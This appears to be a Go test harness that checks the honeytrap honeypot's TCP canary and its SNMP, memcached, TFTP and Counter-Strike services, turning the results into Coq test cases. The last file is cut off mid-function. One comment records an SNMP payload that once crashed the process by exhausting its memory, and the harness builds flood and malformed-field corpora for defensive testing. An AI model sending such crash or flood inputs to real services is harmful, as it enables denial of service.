				hx.CoqZ(int64(s.SPort)), hx.CoqZ(int64(s.DPort)), hx.CoqZ(int64(s.Seq)), hx.CoqZ(int64(s.Ack)), hx.CoqZ(int64(s.Flags)),
				hx.CoqBytes(s.Payload), hx.CoqN(uint64(st.Fresh[0])), hx.CoqZ(int64(st.Fresh[1])), hx.CoqZ(int64(st.Fresh[2]))))
		} else {
			ops = append(ops, "OReader "+hx.CoqN(uint64(st.Key)))
		}
	}
	return fmt.Sprintf("mkCase %s [0;0;0;0;0;0]%%N [127;0;0;1]%%N %s %s %s", hx.CoqN(uint64(id)), hx.CoqList(hs, "(bytes * bytes)"), hx.CoqList(ops, "op"), hx.CoqList(obs, "sobs"))
}

// ---- decoded ports: observation only ----
type DecIn struct {
	SIP     [4]byte `json:"sip"`
	SPort   int     `json:"sport"`
	DPort   int     `json:"dport"`
	ISN     uint32  `json:"isn"`
	Payload hx.B    `json:"payload"`
}

type DecEv struct {
	SIP, DIP     string
	SPort, DPort int
	HasPayload   bool
	Payload      hx.B
}

var httpDecoded = map[int]bool{80: true, 9200: true}

func runDecoded(in DecIn) ([]DecEv, string) {
	cap := &capture{}
	arp := canary.ARPCache{{IP: net.IPv4(in.SIP[0], in.SIP[1], in.SIP[2], in.SIP[3]), HardwareAddress: macOf(in.SIP), Interface: "lo"}}
	v, err := canary.NewVerifCanary("lo", arp, nil, cap)
	if err != nil {
		hx.Fatal("NewVerifCanary: %v", err)
	}
	defer v.Close()
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	v.StartKnockDetector(ctx)
	var crash string
	inject := func(s Seg) {
		defer func() {
			if rec := recover(); rec != nil {
				crash = fmt.Sprint("panic in handleTCP: ", rec)
			}
		}()
		v.Inject(buildFrame(s))
	}
	inject(Seg{SIP: in.SIP, DIP: me, SPort: in.SPort, DPort: in.DPort, Seq: in.ISN, Flags: fSYN})
	var srv uint32
	for _, f := range v.DrainTx() {
		if fl, seq, _, _, ok := parseOut(f); ok && fl == fSYN|fACK {
			srv = seq + 1
		}
	}
	inject(Seg{SIP: in.SIP, DIP: me, SPort: in.SPort, DPort: in.DPort, Seq: in.ISN + 1, Ack: srv, Flags: fACK})
	waitAllHandlersParked(20 * time.Second) // the port handler waits in Read (a state, not a duration)
	inject(Seg{SIP: in.SIP, DIP: me, SPort: in.SPort, DPort: in.DPort, Seq: in.ISN + 1, Ack: srv, Flags: fACK | fPSH, Payload: in.Payload})
	if crash != "" {
		return nil, crash
	}
	var out []DecEv
	// generous while no decoded-port event was ever missed (a loaded machine), short afterwards
	decWait := 20 * time.Second
	if atomic.LoadInt32(&decEventMissed) > 0 {
		decWait = 1500 * time.Millisecond
	}
	deadline := time.Now().Add(decWait)
	for time.Now().Before(deadline) && len(out) == 0 {
		for _, e := range cap.take() {
			m := event.ToMap(e)
			if _, ok := m["source-port"]; !ok {
				continue
			}
			if fmt.Sprint(m["category"]) == "portscan" {
				continue
			}
			d := DecEv{SIP: fmt.Sprint(m["source-ip"]), DIP: fmt.Sprint(m["destination-ip"]), SPort: toInt(m["source-port"]), DPort: toInt(m["destination-port"])}
			if p, ok := m["payload"].(string); ok {
				d.HasPayload = true
				d.Payload = hx.B(p)
			}
			out = append(out, d)
		}
		time.Sleep(300 * time.Microsecond)
	}
	if len(out) == 0 {
		atomic.AddInt32(&decEventMissed, 1)
	}
	v.DrainTx()
	return out, ""
}

var decEventMissed int32

func coqDecCase(id int, in DecIn, evs []DecEv) string {
	var es []string
	for _, e := range evs {
		es = append(es, fmt.Sprintf("mkDev %s %s %s %s %s %s", coqIPs(e.SIP), coqIPs(e.DIP), hx.CoqZ(int64(e.SPort)), hx.CoqZ(int64(e.DPort)), hx.CoqBool(e.HasPayload), hx.CoqBytes(e.Payload)))
	}
	return fmt.Sprintf("mkCase %s %s %s %s %s %s %s %s %s", hx.CoqN(uint64(id)), coqIP(in.SIP), coqIP(me), hx.CoqZ(int64(in.SPort)), hx.CoqZ(int64(in.DPort)),
		hx.CoqBytes(in.Payload), hx.CoqBytes(in.Payload), hx.CoqBool(httpDecoded[in.DPort]), hx.CoqList(es, "dev"))
}

func decodedPart(o hx.Opts, r *hx.Rand) {
	ports := []int{23, 80, 443, 139, 445, 1433, 6379, 9200}
	rounds := 2
	if o.Tier != "quick" {
		rounds = 12
	}
	var ins []DecIn
	for k := 0; k < rounds; k++ {
		for _, p := range ports {
			in := DecIn{SIP: [4]byte{10, 9, byte(r.Range(0, 3)), byte(r.Range(1, 250))}, SPort: r.Range(1024, 65535), DPort: p, ISN: uint32(r.U64())}
			switch {
			case httpDecoded[p]:
				in.Payload = hx.B(fmt.Sprintf("GET /%d HTTP/1.1\r\nHost: sensor\r\nUser-Agent: probe\r\n\r\n", r.Intn(1000)))
			case p == 443:
				in.Payload = append(hx.B{0x16, 0x03, 0x01, 0x00, 0x2f, 0x01, 0x00, 0x00, 0x2b, 0x03, 0x03}, r.Bytes(r.Range(20, 200))...)
			default:
				in.Payload = hx.B(r.Bytes(r.Range(8, 300)))
			}
			ins = append(ins, in)
		}
	}
	type res struct {
		evs   []DecEv
		crash string
	}
	out := make([]res, len(ins))
	var wg sync.WaitGroup
	sem := make(chan struct{}, 8)
	for i := range ins {
		wg.Add(1)
		sem <- struct{}{}
		go func(i int) {
			defer wg.Done()
			defer func() { <-sem }()
			out[i].evs, out[i].crash = runDecoded(ins[i])
		}(i)
	}
	wg.Wait()
	dist := map[string]int{}
	var cases []hx.Case
	for i, in := range ins {
		dist[fmt.Sprintf("dport:%d", in.DPort)]++
		dist[fmt.Sprintf("events:%d", len(out[i].evs))]++
		cases = append(cases, hx.Case{ID: i, Kind: "decoded", Input: in, Obs: out[i].evs, Crash: out[i].crash, Coq: coqDecCase(i, in, out[i].evs)})
	}
	hx.Write(o, "C14", "dec", "From HT Require Import Common.Bytes C14.CheckDec.", "case", cases, dist, nil, 200)
}

func main() {
	o := hx.ParseArgs()
	r := hx.NewRand(o.Seed)
	if o.Only != "" && hx.ReplayPart(o.Only) == "rsp" {
		var in RspIn
		if err := hx.LoadReplay(o.Only, &in); err != nil {
			hx.Fatal("replay: %v", err)
		}
		rspPart(o, r, &in)
		return
	}
	n := 120
	if o.Tier != "quick" {
		n = 1200
	}
	dist := map[string]int{}
	var cases []hx.Case
	for i := 0; i < n; i++ {
		nconn := r.PickInt([]int{1, 1, 1, 2, 2, 3, 4})
		steps, crash := runCase(r, nconn, o.Tier)
		dist[fmt.Sprintf("connections:%d", nconn)]++
		for _, st := range steps {
			dist["step:"+st.Kind]++
			dist[fmt.Sprintf("frames-per-step:%d", len(st.Frames))]++
		}
		hops := lastHops
		var hopsIn [][2]hx.B
		for _, h := range hops {
			hopsIn = append(hopsIn, [2]hx.B{hx.B(h[0]), hx.B(h[1])})
		}
		cases = append(cases, hx.Case{ID: i, Kind: "tcp", Input: map[string]interface{}{"next_hops": hopsIn, "steps": steps}, Obs: nil, Crash: crash, Coq: coqCase(i, steps, hops)})
	}
	decodedPart(o, r)
	rspPart(o, hx.NewRand(o.Seed+0x5eed), nil)
	dist["checksum-steered-segments"] = steered
	dist["state-removed"] = removed
	dist["state-removed-while-others-active"] = removedWhileOthersActive
	dist["peers-sharing-a-port-pair"] = samePortPairs
	dist["first-ack-at-sequence-wrap"] = wrapAligned
	dist["peers-reached-through-a-gateway"] = routedPeers
	hx.Write(o, "C14", "tcp", "From HT Require Import Common.Bytes C14.Model C14.Check.", "case", cases, dist, nil, 40)
}
