package main

import (
	"bufio"
	"context"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"syscall"
	"time"

	"github.com/honeytrap/honeytrap/listener"
	"github.com/honeytrap/honeytrap/server"
	"github.com/honeytrap/honeytrap/services"

	"verif/harness/hx"
)

// A datagram could make the ASN.1 library used by the snmp service allocate a buffer of
// an attacker-chosen size (make([]byte, length) in decodeRawValue) and end the whole
// process with "fatal error: out of memory" (30 85 40 00 00 00 00 did, before snmp.go
// checked the declared lengths).  Every snmp payload is therefore first handled in a
// child process with a 4 GiB address-space limit; a payload that kills the child is
// not run in this process and its case is reported as a crash.

// screenChild: payloads (hex, one JSON array on stdin) are handled one by one by a
// new snmp instance; the index is printed after each survivor.
func screenChild() {
	lim := syscall.Rlimit{Cur: 4 << 30, Max: 4 << 30}
	syscall.Setrlimit(syscall.RLIMIT_AS, &lim)
	var ps []string
	if err := json.NewDecoder(os.Stdin).Decode(&ps); err != nil {
		os.Exit(4)
	}
	fn, ok := services.Get("snmp")
	if !ok {
		os.Exit(4)
	}
	w := bufio.NewWriter(os.Stdout)
	for i, h := range ps {
		p, _ := hex.DecodeString(h)
		s := fn(services.WithChannel(&recChan{}))
		conn := &listener.DummyUDPConn{Buffer: p, Laddr: &net.UDPAddr{IP: net.ParseIP("192.0.2.1"), Port: 161},
			Raddr: &net.UDPAddr{IP: net.ParseIP("198.51.100.7"), Port: 4000}}
		func() {
			defer func() { recover() }()
			s.Handle(context.Background(), server.TimeoutConn(conn, 30*time.Second))
		}()
		fmt.Fprintln(w, i)
		w.Flush()
	}
}

// screen returns, for each payload, whether handling it ends the process.
func screen(payloads [][]byte) []bool {
	fatal := make([]bool, len(payloads))
	start := 0
	for start < len(payloads) {
		var hs []string
		for _, p := range payloads[start:] {
			hs = append(hs, hex.EncodeToString(p))
		}
		in, _ := json.Marshal(hs)
		cmd := exec.Command(os.Args[0], "-c10screen", "-out", os.TempDir())
		cmd.Stdin = strings.NewReader(string(in))
		out, err := cmd.Output()
		last := -1
		for _, l := range strings.Fields(string(out)) {
			if n, e := strconv.Atoi(l); e == nil {
				last = n
			}
		}
		if err == nil && last == len(hs)-1 {
			break
		}
		if err == nil {
			hx.Fatal("screening child stopped early without failing")
		}
		if ee, ok := err.(*exec.ExitError); ok && ee.ExitCode() == 4 {
			hx.Fatal("screening child could not start")
		}
		fatal[start+last+1] = true
		start += last + 2
	}
	return fatal
}
