package main

import (
	"fmt"

	"verif/harness/hx"
)

// Field widths: every integer / length-like field of a request at every width it can be
// encoded in (and negative values), each request sent more often than the burst from
// one source - deterministically, in every tier.  A limiter decision that depends on
// how a field happens to be encoded shows up as more than `burst` responses.

func berLen(n int) []byte {
	switch {
	case n < 128:
		return []byte{byte(n)}
	case n < 256:
		return []byte{0x81, byte(n)}
	}
	return []byte{0x82, byte(n >> 8), byte(n)}
}

func tlv(tag byte, content []byte) []byte {
	return append(append([]byte{tag}, berLen(len(content))...), content...)
}

// berInt encodes v as an INTEGER with exactly width content bytes (two's complement).
func berInt(v int64, width int) []byte {
	c := make([]byte, width)
	for i := width - 1; i >= 0; i-- {
		c[i] = byte(v)
		v >>= 8
	}
	return tlv(0x02, c)
}

// intOfWidth: a value whose minimal two's-complement encoding has exactly w bytes.
func intOfWidth(w int, negative bool, alt int) int64 {
	if w == 1 {
		if negative {
			return []int64{-1, -128}[alt%2]
		}
		return []int64{5, 127}[alt%2]
	}
	lo := int64(1) << uint(8*(w-1)-1) // smallest positive value needing w bytes
	hi := int64(1)<<uint(8*w-1) - 1
	if negative {
		return []int64{-lo - 1, -hi - 1}[alt%2]
	}
	return []int64{lo, hi}[alt%2]
}

type snmpFields struct {
	version, reqid, errStatus, errIndex, value [2]int64 // value, width
	pduTag                                     byte
	intValue                                   bool
}

func snmpRaw(f snmpFields) []byte {
	oid := []byte{0x06, 0x08, 0x2b, 0x06, 0x01, 0x02, 0x01, 0x01, 0x01, 0x00}
	val := []byte{0x05, 0x00}
	if f.intValue {
		val = berInt(f.value[0], int(f.value[1]))
	}
	vb := tlv(0x30, tlv(0x30, append(append([]byte{}, oid...), val...)))
	pdu := append([]byte{}, berInt(f.reqid[0], int(f.reqid[1]))...)
	pdu = append(pdu, berInt(f.errStatus[0], int(f.errStatus[1]))...)
	pdu = append(pdu, berInt(f.errIndex[0], int(f.errIndex[1]))...)
	pdu = append(pdu, vb...)
	msg := append([]byte{}, berInt(f.version[0], int(f.version[1]))...)
	msg = append(msg, tlv(0x04, []byte("public"))...)
	msg = append(msg, tlv(f.pduTag, pdu)...)
	return tlv(0x30, msg)
}

func repeatFrom(svc string, p []byte, n int, second []byte) Input {
	in := Input{Part: "svc", Svc: svc}
	for i := 0; i < n; i++ {
		in.H = append(in.H, Dgram{IP: "198.51.100.77", Port: 1024 + 7*i, Payload: p})
		if second != nil && i%3 == 2 {
			in.H = append(in.H, Dgram{IP: "2001:db8::77", Port: 5000 + i, Payload: second})
		}
	}
	return in
}

func fieldCorpus(r *hx.Rand) []Input {
	var out []Input
	base := snmpFields{version: [2]int64{0, 1}, reqid: [2]int64{0x1234, 2}, errStatus: [2]int64{0, 1}, errIndex: [2]int64{0, 1},
		value: [2]int64{0, 1}, pduTag: 0xa0}
	plain := snmpRaw(base)
	tags := []byte{0xa0, 0xa1, 0xa3}
	k := 0
	for field := 0; field < 5; field++ {
		for w := 1; w <= 5; w++ {
			for _, neg := range []bool{false, true} {
				f := base
				f.pduTag = tags[k%3]
				v := [2]int64{intOfWidth(w, neg, k), int64(w)}
				switch field {
				case 0:
					f.version = v
				case 1:
					f.reqid = v
				case 2:
					f.errStatus = v
				case 3:
					f.errIndex = v
				case 4:
					f.value, f.intValue = v, true
					if f.pduTag != 0xa3 {
						f.pduTag = 0xa3
					}
				}
				var second []byte
				if k%2 == 1 {
					second = plain
				}
				out = append(out, repeatFrom("snmp", snmpRaw(f), 6+k%5, second))
				k++
			}
		}
	}
	// both error fields wide at once; non-minimal (padded) encodings
	for _, w := range []int{2, 3, 5} {
		f := base
		f.errStatus, f.errIndex = [2]int64{intOfWidth(w, false, 0), int64(w)}, [2]int64{intOfWidth(w, true, 1), int64(w)}
		out = append(out, repeatFrom("snmp", snmpRaw(f), 9, plain))
		g := base
		g.errStatus, g.reqid = [2]int64{0, int64(w)}, [2]int64{1, int64(w)}
		out = append(out, repeatFrom("snmp", snmpRaw(g), 7, nil))
	}

	// memcached: byte count, flags and expiry at growing digit counts / negative; frame header fields
	hdrs := [][]byte{{0, 1, 0, 0, 0, 1, 0, 0}, {0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff}, {0, 0, 0, 0, 0, 0, 0, 0}, {0x12, 0x34, 0, 5, 0, 9, 0x80, 0}}
	nums := []string{"0", "5", "80", "127", "128", "255", "256", "65535", "65536", "2147483647", "2147483648", "4294967296",
		"9223372036854775807", "9223372036854775808", "-1", "-128", "-129", "-32769", "-2147483649", "-9223372036854775808", "00005", "+5"}
	for i, n := range nums {
		h := hdrs[i%len(hdrs)]
		data := "hello"
		out = append(out, repeatFrom("memcached", append(append([]byte{}, h...), fmt.Sprintf("set k 0 0 %s\r\n%s\r\n", n, data)...), 6+i%4, nil))
		out = append(out, repeatFrom("memcached", append(append([]byte{}, h...), fmt.Sprintf("set k %s %s 5\r\n%s\r\nstats\r\n", n, n, data)...), 6, nil))
	}
	// memcached: every command kind with optional trailing tokens (noreply, extra arguments)
	for i, cmd := range []string{"stats", "flush_all", "get k", "gets k", "delete k", "incr k 1", "decr k 1", "touch k 0", "version", "verbosity 1", "quit", "stats items", "flush_all 0"} {
		for j, suffix := range []string{" noreply", " 0 noreply", " noreply noreply", " x"} {
			p := append([]byte{0, byte(i), 0, 0, 0, 1, 0, 0}, cmd+suffix+"\r\n"...)
			if (i+j)%4 == 0 { // inside a multi-command datagram
				p = append(p, cmd+"\r\n"+cmd+suffix+"\r\n"...)
			}
			out = append(out, repeatFrom("memcached", p, 7, nil))
		}
	}
	for _, verb := range []string{"set", "add", "replace", "append", "prepend", "cas"} {
		for _, suffix := range []string{" noreply", " 7 noreply", ""} {
			p := append([]byte{0, 1, 0, 0, 0, 1, 0, 0}, fmt.Sprintf("%s k 0 0 2%s\r\nab\r\n", verb, suffix)...)
			out = append(out, repeatFrom("memcached", p, 7, nil))
		}
	}
	// tftp: block numbers and block sizes
	for i, blk := range []int{0, 1, 255, 256, 65535} {
		for j, sz := range []int{0, 1, 511, 512, 513, 1024} {
			d := append([]byte{0, 3, byte(blk >> 8), byte(blk)}, make([]byte, sz)...)
			in := repeatFrom("tftp", d, 6+(i+j)%3, nil)
			if (i+j)%2 == 0 { // inside a write transfer
				in.H = append([]Dgram{{IP: "198.51.100.77", Port: 1024, Payload: hx.B("\x00\x02f\x00octet\x00")}}, in.H...)
				for x := range in.H {
					in.H[x].Port = 1024
				}
			}
			out = append(out, in)
		}
	}
	// the opcode is a 16-bit field: every opcode with a non-zero high byte, well-formed body
	for _, hi := range []byte{0x01, 0x80, 0xff} {
		for op := byte(0); op <= 6; op++ {
			body := []byte("f\x00octet\x00")
			if op == 3 || op == 4 {
				body = []byte{0, 1, 'x', 'y'}
			}
			out = append(out, repeatFrom("tftp", append([]byte{hi, op}, body...), 7, nil))
		}
	}
	for _, opt := range []string{"8", "512", "1428", "65464", "65465", "4294967296", "-1"} {
		p := append([]byte("\x00\x01f\x00octet\x00blksize\x00"), append([]byte(opt), 0)...)
		out = append(out, repeatFrom("tftp", p, 7, nil))
	}
	// counterstrike: payload length around the 1024 byte read, challenge-like fields
	for _, n := range []int{0, 1, 4, 1018, 1019, 1020, 2000} {
		p := append([]byte{0xff, 0xff, 0xff, 0xff, byte(0x54 + n%4)}, make([]byte, n)...)
		out = append(out, repeatFrom("counterstrike", p, 7, nil))
	}
	for _, c := range [][]byte{{0xff, 0xff, 0xff, 0xff}, {0, 0, 0, 0}, {0x80, 0, 0, 0}} {
		out = append(out, repeatFrom("counterstrike", append([]byte{0xff, 0xff, 0xff, 0xff, 0x55}, c...), 7, nil))
	}
	_ = r
	return out
}
