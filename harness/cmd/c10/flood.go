package main

import (
	"context"
	"fmt"
	"net"
	"sort"
	"time"

	"github.com/honeytrap/honeytrap/listener"
	"github.com/honeytrap/honeytrap/server"
	"github.com/honeytrap/honeytrap/services"

	"verif/harness/hx"
)

// Long histories.  Part "lim": services.Limiter called directly 10^4..10^5 times, one
// flooding address (key 0) among up to 5000 other addresses (table growth), TCP and
// UDP address values of the same IP alternating.  Part "flood": the same through each
// service's Handle with small datagrams (in the child process of conc.go).
// Observed: grants / responses per address, as counts.

type Seg struct {
	First int `json:"first"` // index of the first other address of this segment
	Keys  int `json:"keys"`  // number of addresses
	Per   int `json:"per"`   // calls per address ...
	Flood int `json:"flood"` // ... each followed by this many calls of address 0
}

type LimObs struct {
	ElapsedNs int64      `json:"elapsed_ns"`
	Other     int        `json:"other_kind_granted"`
	Flood     int        `json:"flood"`
	Hist      [][2]int64 `json:"hist"` // (g, number of other addresses granted g > 0 times)
}

func idxIP(i int) net.IP {
	if i == 0 {
		return net.ParseIP("198.51.100.7")
	}
	if i%2 == 1 {
		return net.IPv4(10, byte(i>>16), byte(i>>8), byte(i))
	}
	return net.ParseIP(fmt.Sprintf("2001:db8::%x:%x", i>>16, i&0xffff))
}

func segCalls(segs []Seg, f func(i int)) {
	for _, s := range segs {
		for j := s.First; j < s.First+s.Keys; j++ {
			for c := 0; c < s.Per; c++ {
				f(j)
			}
			for c := 0; c < s.Flood; c++ {
				f(0)
			}
		}
	}
}

func histOf(grants map[int]int) [][2]int64 {
	h := map[int]int64{}
	for i, g := range grants {
		if i != 0 && g > 0 {
			h[g]++
		}
	}
	var out [][2]int64
	for g, n := range h {
		out = append(out, [2]int64{int64(g), n})
	}
	sort.Slice(out, func(a, b int) bool { return out[a][0] < out[b][0] })
	return out
}

func runLim(in Input) LimObs {
	l := services.NewLimiter()
	grants := map[int]int{}
	var ob LimObs
	n := 0
	start := time.Now()
	segCalls(in.Segs, func(i int) {
		var a net.Addr
		if n%2 == 0 {
			a = &net.UDPAddr{IP: idxIP(i), Port: 1 + n%60000}
		} else {
			a = &net.TCPAddr{IP: idxIP(i), Port: 1 + n%60000}
		}
		if l.Allow(a) {
			grants[i]++
		}
		if n%1000 == 7 { // address kinds the limiter refuses
			if l.Allow(&net.IPAddr{IP: idxIP(i)}) || l.Allow(&net.UnixAddr{Name: "/x", Net: "unixgram"}) {
				ob.Other++
			}
		}
		n++
	})
	ob.ElapsedNs = time.Since(start).Nanoseconds()
	ob.Flood = grants[0]
	ob.Hist = histOf(grants)
	return ob
}

func coqHist(h [][2]int64) string {
	var es []string
	for _, x := range h {
		es = append(es, fmt.Sprintf("(%s, %s)", hx.CoqZ(x[0]), hx.CoqZ(x[1])))
	}
	return hx.CoqList(es, "(Z * Z)")
}

func coqLimCase(id int, in Input, ob LimObs) string {
	var ss []string
	keys := 0
	for _, s := range in.Segs {
		ss = append(ss, fmt.Sprintf("(mkSeg %s %s %s %s)", hx.CoqZ(int64(s.First)), hx.CoqZ(int64(s.Keys)), hx.CoqZ(int64(s.Per)), hx.CoqZ(int64(s.Flood))))
		if s.First+s.Keys > keys {
			keys = s.First + s.Keys
		}
	}
	return fmt.Sprintf("CL (mkL %s %s %s %s %s %s %s)", hx.CoqN(uint64(id)), hx.CoqBool(keys <= 1200), hx.CoqList(ss, "lseg"),
		hx.CoqZ(ob.ElapsedNs), hx.CoqZ(int64(ob.Other)), hx.CoqZ(int64(ob.Flood)), coqHist(ob.Hist))
}

// genSegs: the flooding address first (so that it is known before the table grows), then
// other addresses interleaved with more of the flood; total flood calls about `flood`.
func genSegs(r *hx.Rand, flood, others int) []Seg {
	segs := []Seg{{First: 0, Keys: 1, Per: 1, Flood: r.PickInt([]int{0, 3, 10})}}
	if others == 0 {
		return append(segs, Seg{First: 0, Keys: 1, Per: 0, Flood: flood})
	}
	switch r.Intn(3) {
	case 0: // table grows first, then the flood
		segs = append(segs, Seg{First: 1, Keys: others, Per: r.PickInt([]int{1, 1, 2, 6}), Flood: 0}, Seg{First: 0, Keys: 1, Per: 0, Flood: flood})
	case 1: // flood spread between the other addresses
		segs = append(segs, Seg{First: 1, Keys: others, Per: r.PickInt([]int{1, 1, 5}), Flood: (flood + others - 1) / others})
	default: // flood, growth, flood, the same addresses again
		segs = append(segs, Seg{First: 0, Keys: 1, Per: 0, Flood: flood / 2}, Seg{First: 1, Keys: others, Per: 1, Flood: 1},
			Seg{First: 0, Keys: 1, Per: 0, Flood: flood / 2}, Seg{First: 1, Keys: others, Per: r.PickInt([]int{1, 4}), Flood: 0})
	}
	return segs
}

// ---- through the services ----

type FloodObs struct {
	ElapsedNs int64      `json:"elapsed_ns"`
	Reached   bool       `json:"reached,omitempty"`
	Rows      [][2]int64 `json:"rows"` // distinct (datagrams sent by an address, responses it received); the flooding address first
}

func runFlood(in Input) (FloodObs, string) {
	fn, ok := services.Get(in.Svc)
	if !ok {
		hx.Fatal("service %q is not registered", in.Svc)
	}
	ch := &recChan{discard: true}
	s := fn(services.WithChannel(ch))
	sent, got := map[int]int{}, map[int]int{}
	n := 0
	var ob FloodObs
	crash := ""
	start := time.Now()
	segCalls(in.Segs, func(i int) {
		if crash != "" {
			return
		}
		sent[i]++
		conn := &listener.DummyUDPConn{
			Buffer: append([]byte(nil), in.Payload...),
			Laddr:  &net.UDPAddr{IP: net.ParseIP("192.0.2.1"), Port: svcPort[in.Svc]},
			Raddr:  &net.UDPAddr{IP: idxIP(i), Port: 1 + n%60000},
			Fn:     func(b []byte, addr *net.UDPAddr) (int, error) { got[i]++; return len(b), nil },
		}
		n++
		func() {
			defer func() {
				if r := recover(); r != nil {
					crash = fmt.Sprintf("Handle panicked on datagram %d: %v", n, r)
				}
			}()
			s.Handle(context.Background(), server.TimeoutConn(conn, 30*time.Second))
		}()
	})
	ob.ElapsedNs = time.Since(start).Nanoseconds()
	ob.Reached = ch.sawRequest()
	ob.Rows = append(ob.Rows, [2]int64{int64(sent[0]), int64(got[0])})
	seen := map[[2]int64]bool{}
	var rest [][2]int64
	for i, k := range sent {
		row := [2]int64{int64(k), int64(got[i])}
		if i != 0 && !seen[row] {
			seen[row] = true
			rest = append(rest, row)
		}
	}
	sort.Slice(rest, func(a, b int) bool {
		return rest[a][0] < rest[b][0] || rest[a][0] == rest[b][0] && rest[a][1] < rest[b][1]
	})
	ob.Rows = append(ob.Rows, rest...)
	return ob, crash
}

func coqFloodCase(id int, in Input, ob FloodObs) string {
	oracle := 0
	if ob.Reached {
		oracle = 1
	}
	var rows []string
	for _, x := range ob.Rows {
		rows = append(rows, fmt.Sprintf("(%s, %s)", hx.CoqZ(x[0]), hx.CoqZ(x[1])))
	}
	return fmt.Sprintf("CX (mkX %s %s (mkD (@nil N) 0 0 (@nil Z) %s %s) %s %s)", hx.CoqN(uint64(id)), svcCoq[in.Svc],
		hx.CoqN(uint64(oracle)), coqPacked(in.Payload), hx.CoqZ(ob.ElapsedNs), hx.CoqList(rows, "(Z * Z)"))
}

// small answer-producing requests, one Allow each
var floodPayload = map[string][]byte{
	"tftp":          []byte("\x00\x01f\x00octet\x00"),
	"memcached":     []byte("\x00\x01\x00\x00\x00\x01\x00\x00get a\r\n"),
	"counterstrike": []byte("\xff\xff\xff\xffTSource Engine Query\x00"),
}
