package main

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"os/exec"
	"runtime"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/honeytrap/honeytrap/listener"
	"github.com/honeytrap/honeytrap/server"
	"github.com/honeytrap/honeytrap/services"

	"verif/harness/hx"
)

// Part "conc": the server starts one goroutine per datagram, so the first datagrams of
// an address the limiter has not seen yet are handled concurrently.  For several fresh
// source addresses per case, N goroutines - one datagram each, same payload - are
// released by one barrier; afterwards a few more datagrams are handled one by one.
// Only counts are observed: responses per source address.  No sleeps: the barrier is an
// atomic flag the goroutines spin on, completion is a WaitGroup with a generous deadline.

type ConcObs struct {
	Conc    int  `json:"conc"`  // responses while the concurrent burst was handled
	After   int  `json:"after"` // responses to the sequential datagrams that followed
	Reached bool `json:"reached,omitempty"`
	Panics  int  `json:"panics,omitempty"`
}

func freshIPs(r *hx.Rand, n int) []string {
	seen := map[string]bool{}
	var out []string
	for len(out) < n {
		var s string
		switch r.Intn(3) {
		case 0:
			s = fmt.Sprintf("2001:db8:%x::%x", r.Intn(65536), 1+r.Intn(65535))
		case 1:
			s = fmt.Sprintf("fd00::%x:%x", r.Intn(65536), r.Intn(65536))
		default:
			s = fmt.Sprintf("10.%d.%d.%d", r.Intn(256), r.Intn(256), 1+r.Intn(254))
		}
		if !seen[s] {
			seen[s] = true
			out = append(out, s)
		}
	}
	return out
}

func runConc(in Input) ([]ConcObs, string) {
	fn, ok := services.Get(in.Svc)
	if !ok {
		hx.Fatal("service %q is not registered", in.Svc)
	}
	ch := &recChan{}
	s := fn(services.WithChannel(ch))
	obs := make([]ConcObs, len(in.Srcs))
	for i, ipStr := range in.Srcs {
		ip := net.ParseIP(ipStr)
		if ip == nil {
			hx.Fatal("bad ip %q", ipStr)
		}
		var replies, panics int32
		mk := func(port int) net.Conn {
			ra := &net.UDPAddr{IP: ip, Port: port}
			return server.TimeoutConn(&listener.DummyUDPConn{
				Buffer: append([]byte(nil), in.Payload...),
				Laddr:  &net.UDPAddr{IP: net.ParseIP("192.0.2.1"), Port: svcPort[in.Svc]},
				Raddr:  ra,
				Fn: func(b []byte, addr *net.UDPAddr) (int, error) {
					atomic.AddInt32(&replies, 1)
					return len(b), nil
				},
			}, 30*time.Second)
		}
		handle := func(c net.Conn) {
			defer func() {
				if r := recover(); r != nil {
					atomic.AddInt32(&panics, 1)
				}
			}()
			s.Handle(context.Background(), c)
		}
		ch.reset()
		var ready, done sync.WaitGroup
		var release int32
		for g := 0; g < in.N; g++ {
			c := mk(20000 + g)
			ready.Add(1)
			done.Add(1)
			go func() {
				defer done.Done()
				ready.Done()
				for atomic.LoadInt32(&release) == 0 {
					runtime.Gosched()
				}
				handle(c)
			}()
		}
		ready.Wait()
		atomic.StoreInt32(&release, 1)
		fin := make(chan struct{})
		go func() { done.Wait(); close(fin) }()
		select {
		case <-fin:
		case <-time.After(120 * time.Second):
			return obs, fmt.Sprintf("source %d: the concurrent handlers did not all return", i)
		}
		obs[i].Conc = int(atomic.LoadInt32(&replies))
		for g := 0; g < in.After; g++ {
			handle(mk(30000 + g))
		}
		obs[i].After = int(atomic.LoadInt32(&replies)) - obs[i].Conc
		obs[i].Panics = int(atomic.LoadInt32(&panics))
		obs[i].Reached = ch.sawRequest()
	}
	return obs, ""
}

func genConc(svc string, r *hx.Rand, nsrc int) Input {
	in := Input{Part: "conc", Svc: svc, Payload: genPayload(svc, r, true)}
	in.Srcs = freshIPs(r, nsrc)
	in.N = r.PickInt([]int{2, 3, 5, 8, 16, 16, 32})
	in.After = r.PickInt([]int{0, 1, 5, 6})
	return in
}

func coqConcCase(id int, in Input, obs []ConcObs, elapsed int64) string {
	oracle := 0
	for _, o := range obs {
		if o.Reached {
			oracle = 1
		}
	}
	var rows []string
	for _, o := range obs {
		rows = append(rows, fmt.Sprintf("(%s, %s)", hx.CoqZ(int64(in.N+in.After)), hx.CoqZ(int64(o.Conc+o.After))))
	}
	return fmt.Sprintf("CX (mkX %s %s (mkD (@nil N) 0 0 (@nil Z) %s %s) %s %s)", hx.CoqN(uint64(id)), svcCoq[in.Svc],
		hx.CoqN(uint64(oracle)), coqPacked(in.Payload), hx.CoqZ(elapsed), hx.CoqList(rows, "(Z * Z)"))
}

// Concurrent handling can end the whole process (e.g. "fatal error: concurrent map read
// and map write" cannot be recovered), so the bursts run in a child process: the child
// answers one JSON line per case; when it dies, the case it was working on is reported
// as a crash and a new child continues with the rest.

type concResult struct {
	Obs       []ConcObs `json:"obs,omitempty"`
	Flood     *FloodObs `json:"flood,omitempty"`
	ElapsedNs int64     `json:"elapsed_ns"`
	Crash     string    `json:"crash"`
}

func concChild() {
	var ins []Input
	if err := json.NewDecoder(os.Stdin).Decode(&ins); err != nil {
		os.Exit(4)
	}
	w := bufio.NewWriter(os.Stdout)
